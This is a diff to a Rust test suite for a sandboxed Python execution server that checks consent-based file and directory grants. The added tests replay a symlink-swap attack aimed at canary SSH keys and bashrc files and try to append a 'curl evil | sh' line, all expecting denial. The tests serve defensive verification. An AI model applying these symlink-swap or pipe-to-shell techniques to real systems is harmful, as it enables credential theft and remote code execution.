@@ -16,7 +16,7 @@ use rmcp::transport::TokioChildProcess;
 use rmcp::{ClientHandler, ErrorData, RoleClient, ServiceExt};
 use serde_json::{Value, json};
 
-use super::{Net, data_dir, server_command, stdout};
+use super::{As, Canaries, Net, both_modes, data_dir, data_dir_for, server_command_as, stdout};
 
 #[derive(Clone, Copy, Debug)]
 enum Answer {
@@ -81,8 +81,19 @@ impl Harness {
     }
 
     async fn start_with(answer: Answer, args: &[&str], codeguard: &str) -> Harness {
-        let data = data_dir();
-        let cmd = server_command(Net::Host, &[("CODEGUARD", codeguard)], args, data.path());
+        Harness::start_as(As::Root, answer, args, codeguard).await
+    }
+
+    /// The server as `who` (root, or the login user).
+    async fn start_as(who: As, answer: Answer, args: &[&str], codeguard: &str) -> Harness {
+        let data = data_dir_for(who);
+        let cmd = server_command_as(
+            who,
+            Net::Host,
+            &[("CODEGUARD", codeguard)],
+            args,
+            data.path(),
+        );
         let person = Person {
             answer: Arc::new(Mutex::new(answer)),
             asked: Arc::new(Mutex::new(Vec::new())),
@@ -156,103 +167,111 @@ fn write_code(dir: &Path) -> String {
 
 #[tokio::test]
 async fn accepted_read_grant_opens_exactly_that_directory_for_reading() {
-    let (_keep, dir) = shared_dir("a,b\n1,2\n");
-    let (_other_keep, other) = shared_dir("other-secret");
-    let h = Harness::start(Answer::Approve, &[]).await;
-    // Before: the guard refuses the path literal.
-    assert!(guard_blocked(&h.run(&read_code(&dir)).await));
-    h.run("x = 1").await;
+    for who in both_modes() {
+        let (_keep, dir) = shared_dir("a,b\n1,2\n");
+        let (_other_keep, other) = shared_dir("other-secret");
+        let h = Harness::start_as(who, Answer::Approve, &[], "enforce").await;
+        // Before: the guard refuses the path literal.
+        assert!(guard_blocked(&h.run(&read_code(&dir)).await));
+        h.run("x = 1").await;
 
-    let (is_error, r) = h.grant(&dir, "read").await;
-    assert!(!is_error, "{r}");
-    assert_eq!(r["granted"], true);
-    assert_eq!(r["worker_restarted"], true, "{r}");
-    assert!(
-        r["message"]
-            .as_str()
-            .unwrap()
-            .contains("variables were cleared")
-    );
-    let asked = h.asked();
-    assert_eq!(asked.len(), 1);
-    assert!(asked[0].contains(&dir.display().to_string()), "{asked:?}");
-    assert!(asked[0].contains("READ access"), "{asked:?}");
-    assert!(asked[0].contains("the task reads the exported data"));
+        let (is_error, r) = h.grant(&dir, "read").await;
+        assert!(!is_error, "{r}");
+        assert_eq!(r["granted"], true);
+        assert_eq!(r["worker_restarted"], true, "{r}");
+        assert!(
+            r["message"]
+                .as_str()
+                .unwrap()
+                .contains("variables were cleared")
+        );
+        let asked = h.asked();
+        assert_eq!(asked.len(), 1);
+        assert!(asked[0].contains(&dir.display().to_string()), "{asked:?}");
+        assert!(asked[0].contains("READ access"), "{asked:?}");
+        assert!(asked[0].contains("the task reads the exported data"));
 
-    let r = h.run(&read_code(&dir)).await;
-    assert_eq!(stdout(&r), "a,b\n1,2\n\n", "{r}");
-    assert_eq!(r["worker_restarted"], true, "variables were cleared: {r}");
-    // Read only: the OS refuses writing there (the guard's roots do not distinguish):
-    // the grant is a read-only mount in the worker's world (EROFS). Other directories
-    // stay closed.
-    assert_eq!(stdout(&h.run(&write_code(&dir)).await), "denied 30\n");
-    assert!(!dir.join("result.txt").exists());
-    assert!(guard_blocked(&h.run(&read_code(&other)).await));
-    // Listed, with who approved it.
-    let (_, list) = h.call("list_grants", json!({"session": "g"})).await;
-    let entry = &list["grants"][0];
-    assert_eq!(entry["session"], "g");
-    assert_eq!(entry["grant"]["access"], "read");
-    assert!(
-        entry["grant"]["approved_by"]
-            .as_str()
-            .unwrap()
-            .contains("grant-test-person")
-    );
-    // Asking again for what is already granted does not ask the person again.
-    let (_, again) = h.grant(&dir, "read").await;
-    assert_eq!(again["granted"], true);
-    assert_eq!(h.asked().len(), 1);
-    h.client.cancel().await.unwrap();
+        let r = h.run(&read_code(&dir)).await;
+        assert_eq!(stdout(&r), "a,b\n1,2\n\n", "{r}");
+        assert_eq!(r["worker_restarted"], true, "variables were cleared: {r}");
+        // Read only: the OS refuses writing there (the guard's roots do not distinguish):
+        // the grant is a read-only mount in the worker's world (EROFS). Other directories
+        // stay closed.
+        assert_eq!(stdout(&h.run(&write_code(&dir)).await), "denied 30\n");
+        assert!(!dir.join("result.txt").exists());
+        assert!(guard_blocked(&h.run(&read_code(&other)).await));
+        // Listed, with who approved it.
+        let (_, list) = h.call("list_grants", json!({"session": "g"})).await;
+        let entry = &list["grants"][0];
+        assert_eq!(entry["session"], "g");
+        assert_eq!(entry["grant"]["access"], "read");
+        assert!(
+            entry["grant"]["approved_by"]
+                .as_str()
+                .unwrap()
+                .contains("grant-test-person")
+        );
+        // Asking again for what is already granted does not ask the person again.
+        let (_, again) = h.grant(&dir, "read").await;
+        assert_eq!(again["granted"], true);
+        assert_eq!(h.asked().len(), 1);
+        h.client.cancel().await.unwrap();
+    }
 }
 
 #[tokio::test]
 async fn with_the_guard_off_the_os_layer_alone_follows_the_grant() {
-    let (_keep, dir) = shared_dir("os-layer");
-    let (_other_keep, other) = shared_dir("closed");
-    let h = Harness::start_with(Answer::Approve, &[], "off").await;
-    // Not granted: the path does not exist in the worker's world (ENOENT).
-    assert_eq!(stdout(&h.run(&read_code(&dir)).await), "denied 2\n");
-    let (is_error, r) = h.grant(&dir, "read").await;
-    assert!(!is_error, "{r}");
-    assert_eq!(stdout(&h.run(&read_code(&dir)).await), "os-layer\n");
-    assert_eq!(stdout(&h.run(&write_code(&dir)).await), "denied 30\n");
-    assert_eq!(stdout(&h.run(&read_code(&other)).await), "denied 2\n");
-    h.client.cancel().await.unwrap();
+    for who in both_modes() {
+        let (_keep, dir) = shared_dir("os-layer");
+        let (_other_keep, other) = shared_dir("closed");
+        let h = Harness::start_as(who, Answer::Approve, &[], "off").await;
+        // Not granted: the path does not exist in the worker's world (ENOENT).
+        assert_eq!(stdout(&h.run(&read_code(&dir)).await), "denied 2\n");
+        let (is_error, r) = h.grant(&dir, "read").await;
+        assert!(!is_error, "{r}");
+        assert_eq!(stdout(&h.run(&read_code(&dir)).await), "os-layer\n");
+        assert_eq!(stdout(&h.run(&write_code(&dir)).await), "denied 30\n");
+        assert_eq!(stdout(&h.run(&read_code(&other)).await), "denied 2\n");
+        h.client.cancel().await.unwrap();
+    }
 }
 
 #[tokio::test]
 async fn accepted_write_grant_allows_writing_there_and_only_there() {
-    let (_keep, dir) = shared_dir("x");
-    let h = Harness::start(Answer::Approve, &[]).await;
-    let (is_error, r) = h.grant(&dir, "write").await;
-    assert!(!is_error, "{r}");
-    assert_eq!(stdout(&h.run(&write_code(&dir)).await), "wrote\n");
-    assert_eq!(
-        std::fs::read_to_string(dir.join("result.txt")).unwrap(),
-        "from the sandbox"
-    );
-    let r = h.run("open('/tmp/pwned_grant_test', 'w')").await;
-    assert_eq!(r["status"], "error", "{r}");
-    assert!(!Path::new("/tmp/pwned_grant_test").exists());
-    h.client.cancel().await.unwrap();
+    for who in both_modes() {
+        let (_keep, dir) = shared_dir("x");
+        let h = Harness::start_as(who, Answer::Approve, &[], "enforce").await;
+        let (is_error, r) = h.grant(&dir, "write").await;
+        assert!(!is_error, "{r}");
+        assert_eq!(stdout(&h.run(&write_code(&dir)).await), "wrote\n");
+        assert_eq!(
+            std::fs::read_to_string(dir.join("result.txt")).unwrap(),
+            "from the sandbox"
+        );
+        let r = h.run("open('/tmp/pwned_grant_test', 'w')").await;
+        assert_eq!(r["status"], "error", "{r}");
+        assert!(!Path::new("/tmp/pwned_grant_test").exists());
+        h.client.cancel().await.unwrap();
+    }
 }
 
 #[tokio::test]
 async fn declined_refused_or_cancelled_consent_grants_nothing() {
-    for answer in [Answer::Decline, Answer::Refuse, Answer::Cancel] {
-        let (_keep, dir) = shared_dir("secret-data");
-        // Guard off: the OS layer alone must still refuse after a refused consent.
-        let h = Harness::start_with(answer, &[], "off").await;
-        let (is_error, r) = h.grant(&dir, "read").await;
-        assert!(is_error, "{answer:?}: {r}");
-        assert_eq!(r["granted"], false);
-        assert_eq!(h.asked().len(), 1);
-        let out = stdout(&h.run(&read_code(&dir)).await).to_string();
-        assert_eq!(out, "denied 2\n", "{answer:?}");
-        let (_, list) = h.call("list_grants", json!({})).await;
-        assert_eq!(list["grants"], json!([]));
-        h.client.cancel().await.unwrap();
+    for who in both_modes() {
+        for answer in [Answer::Decline, Answer::Refuse, Answer::Cancel] {
+            let (_keep, dir) = shared_dir("secret-data");
+            // Guard off: the OS layer alone must still refuse after a refused consent.
+            let h = Harness::start_as(who, answer, &[], "off").await;
+            let (is_error, r) = h.grant(&dir, "read").await;
+            assert!(is_error, "{answer:?}: {r}");
+            assert_eq!(r["granted"], false);
+            assert_eq!(h.asked().len(), 1);
+            let out = stdout(&h.run(&read_code(&dir)).await).to_string();
+            assert_eq!(out, "denied 2\n", "{answer:?}");
+            let (_, list) = h.call("list_grants", json!({})).await;
+            assert_eq!(list["grants"], json!([]));
+            h.client.cancel().await.unwrap();
+        }
     }
 }
 
@@ -380,4 +399,199 @@ fn python_sdk_client_with_an_elicitation_callback_gets_the_grant() {
     assert!(text.contains("ASKED True"), "{text}");
     assert!(text.contains("GRANTED True"), "{text}");
     assert!(text.contains("READ via-python-sdk"), "{text}");
+}
+
+/// Finding 1, replayed through a real elicitation client: the person approves a file,
+/// then is asked for its folder, then the file is swapped for a symlink to a secret.
+/// The person's approval never reaches anything else: the folder grant that would let
+/// the code do the swap is refused without asking, and a swap done anyway (here from
+/// the host) makes the grant lapse instead of following the link.
+#[tokio::test]
+async fn a_grant_swap_never_reaches_anything_the_person_did_not_approve() {
+    for who in both_modes() {
+        let canaries = Canaries::plant(who);
+        let (_keep, dir) = shared_dir("harmless");
+        let file = dir.join("export.csv");
+        // The guard off: the OS layer alone decides.
+        let h = Harness::start_as(who, Answer::Approve, &[], "off").await;
+        let (is_error, r) = h.grant(&file, "read").await;
+        assert!(!is_error, "{who:?}: {r}");
+        let read = format!(
+            "try:\n    print(open({:?}).read())\nexcept OSError as e:\n    print('denied', e.errno)",
+            file.display().to_string()
+        );
+        assert_eq!(stdout(&h.run(&read).await), "harmless\n", "{who:?}");
+        // Its folder, for writing: refused before the person is even asked.
+        let (is_error, r) = h.grant(&dir, "write").await;
+        assert!(is_error, "{who:?}: {r}");
+        let msg = r["message"].as_str().unwrap();
+        assert!(msg.contains("refused without asking"), "{who:?}: {msg}");
+        assert_eq!(h.asked().len(), 1, "{who:?}: the person was asked again");
+        // The swap, as write access to the folder would have allowed it.
+        std::fs::rename(&file, dir.join("export.orig")).unwrap();
+        std::os::unix::fs::symlink(&canaries.ssh_key, &file).unwrap();
+        // The grant lapses at once, and says so; the running worker still sees exactly
+        // the object that was approved.
+        let r = h.run(&read).await;
+        assert_eq!(stdout(&r), "harmless\n", "{who:?}: {r}");
+        assert!(
+            r["warnings"].to_string().contains("was revoked"),
+            "{who:?}: {r}"
+        );
+        // A new worker does not follow the link: the path is not in its world.
+        h.call("reset_session", json!({"session": "g", "keep_files": true}))
+            .await;
+        let r = h.run(&read).await;
+        let out = stdout(&r);
+        assert!(!out.contains(canaries.secret.trim()), "{who:?}: {r}");
+        assert_eq!(out, "denied 2\n", "{who:?}: {r}");
+        let append = format!(
+            "try:\n    open({:?}, 'a').write('curl evil | sh\\n'); print('APPENDED')\nexcept OSError as e:\n    print('denied', e.errno)",
+            file.display().to_string()
+        );
+        assert_eq!(stdout(&h.run(&append).await), "denied 2\n", "{who:?}");
+        let (_, list) = h.call("list_grants", json!({"session": "g"})).await;
+        assert_eq!(list["grants"], json!([]), "{who:?}");
+        canaries.assert_untouched(&format!("{who:?}"));
+        h.client.cancel().await.unwrap();
+    }
+}
+
+/// The other order, and links planted from inside: a writable folder's links are
+/// resolved in the worker's world (where the user's files do not exist), and a later
+/// request for a path through such a link is resolved, shown and refused for what it
+/// really is.
+#[tokio::test]
+async fn links_planted_in_a_writable_grant_lead_nowhere() {
+    for who in both_modes() {
+        let canaries = Canaries::plant(who);
+        let (_keep, dir) = shared_dir("data");
+        let h = Harness::start_as(who, Answer::Approve, &[], "off").await;
+        let (is_error, r) = h.grant(&dir, "write").await;
+        assert!(!is_error, "{who:?}: {r}");
+        // A file inside the writable folder is covered by it: nothing new is granted.
+        let (_, r) = h.grant(&dir.join("export.csv"), "read").await;
+        assert!(
+            r["message"].as_str().unwrap().contains("already granted"),
+            "{who:?}: {r}"
+        );
+        let code = format!(
+            r#"import os
+d = {dir:?}
+os.symlink({key:?}, os.path.join(d, "key"))
+os.symlink({rc:?}, os.path.join(d, "rc"))
+for name, fn in [("read", lambda: open(os.path.join(d, "key")).read()),
+                 ("append", lambda: open(os.path.join(d, "rc"), "a").write("x"))]:
+    try:
+        print(name, "DONE", fn())
+    except OSError as e:
+        print(name, "denied", e.errno)
+"#,
+            dir = dir.display().to_string(),
+            key = canaries.ssh_key.display().to_string(),
+            rc = canaries.bashrc.display().to_string(),
+        );
+        let r = h.run(&code).await;
+        assert_eq!(
+            stdout(&r),
+            "read denied 2\nappend denied 2\n",
+            "{who:?}: {r}"
+        );
+        // The link is on the host now; asking for it asks for what it points to.
+        let (is_error, r) = h.grant(&dir.join("key"), "read").await;
+        assert!(is_error, "{who:?}: {r}");
+        assert!(
+            r["message"]
+                .as_str()
+                .unwrap()
+                .contains("can never be granted"),
+            "{who:?}: {r}"
+        );
+        assert_eq!(h.asked().len(), 1, "{who:?}");
+        canaries.assert_untouched(&format!("{who:?}"));
+        h.client.cancel().await.unwrap();
+    }
+}
+
+/// `--allow-read F --allow-write dir(F)`: the operator's grants obey the same rule.
+#[test]
+fn operator_grants_that_could_rewrite_each_other_stop_the_server() {
+    let (_keep, dir) = shared_dir("x");
+    let file = dir.join("export.csv");
+    let out = std::process::Command::new(super::BIN)
+        .arg("serve")
+        .args(["--allow-read", file.to_str().unwrap()])
+        .args(["--allow-write", dir.to_str().unwrap()])
+        .env("SANDBOX_DATA_DIR", data_dir().path())
+        .env("SANDBOX_PYTHON", "/usr/bin/python3")
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    assert!(!out.status.success());
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("cannot be granted together with"), "{err}");
+}
+
+/// What the sandbox itself runs can never be granted: the interpreter's venv (a write
+/// grant could plant a `.pth` every later worker runs), the warden binary, files with
+/// other hard links.
+#[tokio::test]
+async fn the_runtime_the_binary_and_hard_links_are_never_grantable() {
+    let scratch = tempfile::tempdir().unwrap();
+    std::fs::set_permissions(scratch.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
+    let venv = scratch.path().join("venv");
+    assert!(
+        std::process::Command::new("/usr/bin/python3")
+            .args(["-m", "venv", "--without-pip"])
+            .arg(&venv)
+            .status()
+            .unwrap()
+            .success()
+    );
+    let (_keep, dir) = shared_dir("x");
+    std::fs::hard_link(dir.join("export.csv"), dir.join("second-name.csv")).unwrap();
+    let data = data_dir();
+    let python = venv.join("bin/python");
+    let cmd = server_command_as(
+        As::Root,
+        Net::Host,
+        &[("SANDBOX_PYTHON", python.to_str().unwrap())],
+        &[],
+        data.path(),
+    );
+    let person = Person {
+        answer: Arc::new(Mutex::new(Answer::Approve)),
+        asked: Arc::new(Mutex::new(Vec::new())),
+    };
+    let (transport, _) = TokioChildProcess::builder(cmd)
+        .stderr(Stdio::inherit())
+        .spawn()
+        .unwrap();
+    let client = person.clone().serve(transport).await.unwrap();
+    let bin_dir = Path::new(super::BIN).parent().unwrap().to_path_buf();
+    for path in [
+        scratch.path().to_path_buf(),
+        venv.clone(),
+        venv.join("lib"),
+        bin_dir,
+        dir.join("export.csv"),
+    ] {
+        let Value::Object(args) = json!({"path": path, "access": "write", "reason": "r"}) else {
+            unreachable!()
+        };
+        let r = client
+            .call_tool(CallToolRequestParams::new("request_grant").with_arguments(args))
+            .await
+            .unwrap();
+        let r = r.structured_content.unwrap();
+        assert_eq!(r["granted"], false, "{}: {r}", path.display());
+        let msg = r["message"].as_str().unwrap();
+        assert!(
+            msg.contains("refused without asking"),
+            "{}: {msg}",
+            path.display()
+        );
+    }
+    assert!(person.asked.lock().unwrap().is_empty());
+    client.cancel().await.unwrap();
 }
